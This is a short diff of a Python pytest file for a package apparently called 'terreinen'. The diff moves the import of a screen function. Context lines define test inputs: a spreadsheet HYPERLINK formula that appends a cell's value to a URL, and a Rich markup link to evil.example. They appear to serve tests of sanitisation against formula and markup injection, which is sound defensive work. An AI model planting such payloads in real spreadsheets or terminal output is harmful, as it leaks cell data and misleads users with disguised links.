@@ -12,7 +12,8 @@ import pytest
 from conftest import cli, frame, parcel, rect
 from rich.console import Console
 
-from terreinen import _screen, validate
+from terreinen import validate
+from terreinen.cli import screen as _screen
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"Klik")'
 LINK = "[link=https://evil.example]Broeklanden[/link]"
